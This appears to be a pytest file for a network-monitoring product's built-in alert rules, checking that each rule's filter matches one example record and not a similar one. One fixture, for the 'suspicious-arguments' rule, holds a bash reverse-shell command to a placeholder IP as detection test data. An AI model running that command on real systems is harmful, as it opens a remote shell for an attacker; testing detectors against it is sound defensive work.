"""The alert rules of the product: which record each is about, and which one beside it is none."""

from typing import Any

import pytest

from tapetum.domain.documents import DocumentKind
from tapetum.kql import compile_predicate, parse
from tests.api.test_builtin import read

RULES = dict(read(DocumentKind.ALERT_RULE))
FILTERED = {name: rule for name, rule in RULES.items() if rule.detector is None}
"""What detectors see is shown by tests/contract/test_detectors.py."""
POLICY = {"objectRef.resource": "networkpolicies", "stage": "ResponseComplete", "responseStatus.code": 200}
EXEC = {"objectRef.resource": "pods", "objectRef.subresource": "exec", "responseStatus.code": 101}
SENT = {"reporter": "src", "action": "allow", "proto": "tcp", "bytes_out": 60, "bytes_in": 0}
EXAMPLES: dict[str, tuple[dict[str, Any], dict[str, Any]]] = {
    "bgp-flapping": ({"state": "down"}, {"state": "up"}),
    "cleartext-ports": (
        {"action": "allow", "source_type": "wep", "proto": "tcp", "dest_port": 23},
        {"action": "allow", "source_type": "wep", "proto": "udp", "dest_port": 514},
    ),
    "denied-burst": ({"action": "deny", "source_type": "wep"}, {"action": "deny", "source_type": "net"}),
    "failing-dns": ({"rcode": "ServFail"}, {"rcode": "NXDomain"}),
    "missing-names": (
        {"rcode": "NXDomain", "qname": "xk2v9.example"},
        {"rcode": "NXDomain", "qname": "web.shop.svc.cluster.local"},
    ),
    "pod-exec": ({**EXEC, "verb": "get"}, {**EXEC, "verb": "create", "responseStatus.code": 403}),
    "policies-changed": ({**POLICY, "verb": "patch"}, {**POLICY, "verb": "create"}),
    "policy-deleted": (
        {**POLICY, "verb": "delete"},
        {**POLICY, "verb": "delete", "responseStatus.code": 404},
    ),
    "server-errors": ({"response_code": "503"}, {"response_code": "503", "reporter": "src"}),
    "suspicious-arguments": ({"process_args": ["-c", "bash -i >& /dev/tcp/1.2.3.4/9"]}, {}),
    "silent-servers": (SENT, {**SENT, "bytes_in": 1}),
}


def test_each_rule_has_an_example() -> None:
    assert set(EXAMPLES) == {name.removeprefix("builtin.") for name in FILTERED}


@pytest.mark.parametrize("name", sorted(EXAMPLES))
def test_a_rule_is_about_its_example_and_not_about_what_is_beside_it(name: str) -> None:
    rule, (hit, miss) = RULES[f"builtin.{name}"], EXAMPLES[name]
    meets = compile_predicate(parse(rule.filter), rule.kind.value, 0)
    assert meets(hit)
    assert not meets(miss)


def test_each_says_what_it_is_and_what_can_be_done() -> None:
    for name, rule in RULES.items():
        assert len(rule.description) > 60, name
        assert rule.mitigations, name
        assert (rule.technique is None) == (rule.tactic is None), name
        assert rule.window is None or rule.window.hold or rule.window.clear is not None, (
            f"{name} would come again and again around its threshold"
        )


def test_one_that_cannot_suit_every_cluster_is_off() -> None:
    assert [name for name, rule in RULES.items() if not rule.enabled] == ["builtin.server-errors"]
